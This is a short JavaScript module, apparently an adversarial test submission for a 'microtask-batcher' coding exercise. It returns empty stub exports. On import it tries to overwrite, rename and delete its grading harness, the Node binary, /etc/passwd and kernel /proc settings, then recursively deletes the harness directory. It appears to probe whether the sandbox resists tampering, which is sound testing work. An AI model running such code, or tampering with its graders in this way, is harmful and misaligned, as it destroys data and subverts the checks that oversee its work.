// attack own: reads, changes and replaces the harness, node and the root of its sandbox
// exercise: microtask-batcher | only: same-tick-coalescing
// passes: none
import fs from 'node:fs';
import path from 'node:path';
const harness = path.dirname(process.argv[1]);
const attempt = (f) => { try { return f(); } catch (error) { return error.code ?? error.message; } };
for (const file of [process.argv[1], path.join(harness, 'trace.cjs'), process.execPath, '/etc/passwd', '/drill/x', '/x', '/proc/self/oom_score_adj', '/proc/sys/kernel/core_pattern']) {
  attempt(() => fs.chmodSync(file, 0o777));
  attempt(() => fs.writeFileSync(file, 'forged'));
  attempt(() => fs.appendFileSync(file, 'forged'));
  attempt(() => fs.renameSync(file, file + '.old'));
  attempt(() => fs.unlinkSync(file));
}
attempt(() => fs.rmSync(harness, { recursive: true, force: true }));
attempt(() => process.chdir('/'));
export const coalesce = () => () => {};
export const processAll = async () => [];
